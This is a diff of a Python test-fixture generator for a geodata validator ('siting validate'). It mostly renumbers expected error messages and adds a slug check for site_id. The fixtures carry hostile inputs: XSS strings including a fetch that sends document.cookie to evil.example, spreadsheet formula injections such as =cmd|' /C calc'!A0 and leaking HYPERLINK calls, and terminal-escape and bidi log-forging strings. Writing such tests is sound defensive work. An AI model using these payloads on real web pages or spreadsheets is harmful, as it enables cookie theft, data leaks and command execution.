@@ -7,8 +7,8 @@ Every case is one file plus an entry in ``EXPECTED.json``::
 
     "name.geojson": {"exit": 1, "fragments": [...], "absent": [...], "layer": "regions"}
 
-``exit`` is the code of ``python -m siting validate FILE`` (``--layer LAYER`` when ``layer``
-is given; site layer otherwise), ``fragments`` must all appear in its output and ``absent``
+``exit`` is the code of ``python -m siting validate --layer LAYER FILE`` (``candidate_sites``, the
+strict site schema, unless ``layer`` is given), ``fragments`` must all appear in its output and ``absent``
 must not (hostile payloads may only be echoed clipped, never whole). Files under ``valid/``
 must load (exit 0) and keep the text listed in ``columns`` exactly, feature by feature.
 
@@ -122,10 +122,10 @@ case("features_not_array.geojson", dump({"type": "FeatureCollection", "features"
      ["`features` is missing or not an array"])
 case("feature_without_properties.geojson",
      dump(fc({"type": "Feature", "geometry": {"type": "Point", "coordinates": [2.35, 48.86]}})),
-     ["7 problems", "feature #0", "field `site_id`", "field `sources`", "required field is missing"])
+     ["7 problems", "feature 1", "field `site_id`", "field `sources`", "required field is missing"])
 case("properties_is_array.geojson",
      dump(fc(site(0), {"type": "Feature", "geometry": None, "properties": [["site_id", "x"]]})),
-     ["1 problem", "feature #1", "`properties` is not an object"], absent=["feature #0"])
+     ["1 problem in 1 feature:", "feature 2: `properties` is not an object"], absent=["feature 1:", "feature 1 ("])
 case("deeply_nested_top_level.geojson", "[" * 100_000 + "\n", ["nested too deeply"])
 case("long_garbage_line.geojson", garbage(400_000), ["not valid JSON", "line 1, column 1"])
 
@@ -134,7 +134,7 @@ case("long_garbage_line.geojson", garbage(400_000), ["not valid JSON", "line 1, 
 # ---------------------------------------------------------------------------------------------
 case("multipoint_geometry.geojson",
      dump(fc(site(0, geometry={"type": "MultiPoint", "coordinates": [[2.35, 48.86], [2.36, 48.87]]}))),
-     ["feature #0", "geometry is a MultiPoint; expected Point"])
+     ["feature 1", "geometry is a MultiPoint; expected Point"])
 case("geometry_collection.geojson",
      dump(fc(site(0, geometry={"type": "GeometryCollection",
                                "geometries": [{"type": "Point", "coordinates": [2.35, 48.86]}]}))),
@@ -150,10 +150,10 @@ case("point_string_coordinates.geojson",
      ["Point coordinates must be two numbers"])
 case("point_nan_infinity.geojson",
      dump(fc(site(0, lon=float("nan")), site(1, lat=float("inf")), site(2, lon=float("-inf")))),
-     ["3 problems", "feature #0", "feature #1", "feature #2", "coordinates are NaN or Infinity"])
+     ["3 problems", "feature 1", "feature 2", "feature 3", "coordinates are NaN or Infinity"])
 case("geometry_type_injection.geojson",
      dump(fc(site(0, geometry={"type": "\u202e\nforged.geojson: OK", "coordinates": [2.35, 48.86]}))),
-     ["feature #0", "field `geometry`", "geometry is a"], absent=["\u202e", "\nforged.geojson"])
+     ["feature 1", "field `geometry`", "geometry is a"], absent=["\u202e", "\nforged.geojson"])
 
 # ---------------------------------------------------------------------------------------------
 # Numbers and booleans
@@ -178,8 +178,8 @@ _big = dump(fc(site(0, power_mw="BIG-POWER"), site(1, available_year="BIG-YEAR")
 _big = (_big.replace(b'"BIG-POWER"', b"9" * 5000).replace(b'"BIG-YEAR"', b"1" + b"0" * 400)
         .replace(b'"BIG-LON"', b"2" + b"0" * 400).replace(b'"BIG-25"', b"1" + b"0" * 24))
 case("huge_integers.geojson", _big,
-     ["4 problems", "feature #0", "field `power_mw`", "feature #1", "field `available_year`",
-      "NaN or Infinity", "feature #2", "field `geometry`", "feature #3", "is 1e+24 MW"])
+     ["4 problems", "feature 1", "field `power_mw`", "feature 2", "field `available_year`",
+      "NaN or Infinity", "feature 3", "field `geometry`", "feature 4", "is 1e+24 MW"])
 
 # ---------------------------------------------------------------------------------------------
 # Sources
@@ -195,11 +195,11 @@ case("sources_data_url.geojson", dump(fc(site(0, sources=[_data_url]))),
 case("sources_without_host.geojson",
      dump(fc(site(0, sources=["https:///etc/passwd"]), site(1, sources=["//evil.example/x"]),
              site(2, sources=["HTTP ://example.org"]))),
-     ["3 problems", "feature #0", "'https:///etc/passwd' is not an http(s) URL", "feature #1", "feature #2"])
+     ["3 problems", "feature 1", "'https:///etc/passwd' is not an http(s) URL", "feature 2", "feature 3"])
 case("sources_control_chars.geojson",
      dump(fc(site(0, sources=["https://example.org/a\n"]), site(1, sources=["https://example.org/\u202egpj.exe"]),
              site(2, sources=["https://example.org/\x1b[2J"]))),
-     ["3 problems", "field `sources`", "item #0 contains control or bidirectional-override characters",
+     ["3 problems", "field `sources`", "item 1 contains control or bidirectional-override characters",
       "U+000A", "U+202E", "U+001B"], absent=["\u202e", "\x1b"])
 _long_url = "https://example.org/?q=" + "a" * 3000
 case("sources_url_too_long.geojson", dump(fc(site(0, sources=[_long_url]))),
@@ -210,7 +210,7 @@ case("sources_url_too_long.geojson", dump(fc(site(0, sources=[_long_url]))),
 # ---------------------------------------------------------------------------------------------
 case("name_empty_and_blank.geojson",
      dump(fc(site(0, name=""), site(1, name=" \u00a0\u3000 "), site(2, name=DROP))),
-     ["3 problems", "feature #0", "feature #1", "required field is empty", "feature #2",
+     ["3 problems", "feature 1", "feature 2", "required field is empty", "feature 3",
       "required field is missing"])
 case("name_5000_chars.geojson", dump(fc(site(0, name="N" * 5000))),
      ["field `name`", "is 5000 characters long; at most 200 allowed"], absent=["N" * 300])
@@ -243,8 +243,8 @@ case("site_id_log_forging.geojson",
 # ---------------------------------------------------------------------------------------------
 # Injection payloads: legal text, so each file also carries one real schema error
 # ---------------------------------------------------------------------------------------------
+HTML_ID = "\"><img src=x onerror=alert(document.cookie)>-hostile-site-identifier-0001"
 HTML = {
-    "site_id": "\"><img src=x onerror=alert(document.cookie)>-hostile-site-identifier-0001",
     "name": "<script>alert(\"name\")</script><img src=x onerror=\"fetch('https://evil.example/?c='+document.cookie)\">",
     "commune": "<iframe src=\"javascript:alert('commune')\" width=999 height=999></iframe>",
     "department": "<svg/onload=alert()>",
@@ -256,8 +256,8 @@ HTML = {
 _evidence = "official<script>alert('evidence')</script><img src=x onerror=alert('evidence')>"
 case("html_payloads_every_field.geojson", dump(fc(site(0, **HTML, evidence=_evidence))),
      ["1 problem", "field `evidence`", "`official`"], absent=[_evidence, *HTML.values()])
+FORMULA_ID = "=cmd|' /C calc'!A0"
 FORMULAS = {
-    "site_id": "=cmd|' /C calc'!A0",
     "name": "=HYPERLINK(\"https://evil.example/?leak=\"&A1;\"Click for the site details\")",
     "commune": "+cmd|' /C notepad'!A0",
     "department": "-2+3",
@@ -270,6 +270,16 @@ _region = "=HYPERLINK(\"https://evil.example/region?leak=0001\",\"Île-de-France
 case("formula_payloads.geojson", dump(fc(site(0, **FORMULAS, region=_region))),
      ["1 problem", "field `region`", "expected one of"],
      absent=[_region, FORMULAS["name"], FORMULAS["value_notes"]])
+
+# A site_id is a slug (lower-case letters, digits, single hyphens): anything else is refused with
+# a suggestion, never silently renamed.
+_BAD_IDS = ["Bad ID!", "UPPER-case", "double--hyphen", "-leading", "caf\u00e9", "", HTML_ID, FORMULA_ID]
+case("site_id_not_slug.geojson", dump(fc(*(site(i, site_id=v) for i, v in enumerate(_BAD_IDS)))),
+     ["8 problems in 8 features", "field `site_id`",
+      "'Bad ID!' must be lower case letters, digits and hyphens, e.g. 'bad-id'", "e.g. 'upper-case'",
+      "e.g. 'double-hyphen'", "e.g. 'leading'", "e.g. 'cafe'", "feature 6: field `site_id`: required field is empty",
+      "e.g. 'img-src-x-onerror-alert-document-cookie-hostile-site-identifier-0001'", "e.g. 'cmd-c-calc-a0'"],
+     absent=[HTML_ID])
 
 # ---------------------------------------------------------------------------------------------
 # Encodings
@@ -288,8 +298,8 @@ case("csv_semicolon_invalid_row.csv",
      _header + "\n"
      "csv-ok;Site OK;Bretagne;project;Valid row;5;120,5;40;2028;https://example.org/ok;48,11;-1,68\n"
      "csv-bad;Site KO;Bretagne-Nord;project;Invalid row;5;1.200,5;-3;2028,5;https://example.org/ko;48,1x;-1,68\n",
-     ["5 problems", "feature #1", "site_id=csv-bad", "field `region`", "field `power_mw`", "field `area_ha`",
-      "field `available_year`", "field `geometry`"], absent=["feature #0"])
+     ["5 problems in 1 row", "row 2 (site_id=csv-bad)", "field `region`", "field `power_mw`", "field `area_ha`",
+      "field `available_year`", "field `geometry`"], absent=["row 1 (", "row 1:"])
 case("csv_no_lat_lon.csv",
      "site_id,name,region,latitude,longitude\ncsv-a,Site A,Bretagne,48.11,-1.68\n",
      ["needs `lat` and `lon`", "missing lat, lon"])
@@ -300,13 +310,13 @@ case("csv_huge_field.csv",
 case("csv_control_chars.csv",
      "site_id;name;commune;region;evidence;evidence_note;location_precision_km;sources;lat;lon\n"
      "csv-a;nul\x00name;\"\x1b]0;title\x07\";Bretagne;project;note;5;https://example.org/a;48,11;-1,68\n",
-     ["2 problems", "feature #0", "field `name`", "U+0000", "field `commune`", "U+001B"],
+     ["2 problems in 1 row", "row 1 (site_id=csv-a)", "field `name`", "U+0000", "field `commune`", "U+001B"],
      absent=["\x00", "\x1b", "\x07"])
 case("csv_formula_payloads.csv",
      "site_id,name,region,evidence,evidence_note,location_precision_km,developer,sources,lat,lon\n"
      "\"=cmd|' /C calc'!A0\",\"=HYPERLINK(\"\"https://evil.example\"\",\"\"x\"\")\",Bretagne,"
      "\"@SUM(1+1)\",+note,5,-dev,https://example.org/a,48.11,-1.68\n",
-     ["1 problem", "field `evidence`", "'@SUM(1+1)'"])
+     ["2 problems in 1 row", "field `site_id`", "e.g. 'cmd-c-calc-a0'", "field `evidence`", "'@SUM(1+1)'"])
 
 # ---------------------------------------------------------------------------------------------
 # CRS declarations
@@ -339,7 +349,8 @@ def _bulk(i: int) -> dict:
 
 
 case("ten_thousand_and_one.geojson", dump(fc(*(_bulk(i) for i in range(10_001))), compact=True),
-     ["1 problem:", f"feature #{BULK_BAD}", f"site_id=bulk-{BULK_BAD:05d}", "field `evidence`", "'rumour'"])
+     ["1 problem in 1 feature:", f"feature {BULK_BAD + 1} (site_id=bulk-{BULK_BAD:05d})", "field `evidence`",
+      "'rumour'"])
 
 # ---------------------------------------------------------------------------------------------
 # Polygon layer (validated with --layer regions)
@@ -347,7 +358,7 @@ case("ten_thousand_and_one.geojson", dump(fc(*(_bulk(i) for i in range(10_001)))
 # 600 levels: within what the JSON parser accepts, beyond what a recursive geometry reader survives.
 case("regions_polygon_deep_nesting.geojson",
      dump(region("DEEP"), compact=True).replace(b'"DEEP"', b"[" * 600 + b"2.0,48.0" + b"]" * 600),
-     ["feature #0", "field `geometry`", "Polygon coordinates are malformed"], layer="regions")
+     ["feature 1", "field `geometry`", "Polygon coordinates are malformed"], layer="regions")
 case("regions_polygon_nan.geojson",
      dump(region([[[-3.0, 48.0], [-2.0, 48.0], [-2.0, float("nan")], [-3.0, 48.0]]])),
      ["field `geometry`", "coordinates are NaN or Infinity"], layer="regions")
@@ -381,7 +392,7 @@ case("valid/unicode_names.csv",
      codecs.BOM_UTF8 + ("site_id;name;region;evidence;evidence_note;location_precision_km;sources;lat;lon\r\n"
                         + "".join(f"csv-{i};{n};Grand Est;project;ok;5;https://example.org/{i};48,6;7,{i}\r\n"
                                   for i, n in enumerate(_csv_names))).encode("utf-8"),
-     ["OK", "3 features"], exit=0, columns={"name": _csv_names})
+     ["OK", "3 rows"], exit=0, columns={"name": _csv_names})
 case("valid/payloads_kept_verbatim.geojson", dump(fc(site(0, **HTML), site(1, **FORMULAS))),
      ["OK", "2 features"], exit=0, columns={k: [HTML[k], FORMULAS[k]] for k in HTML})
 
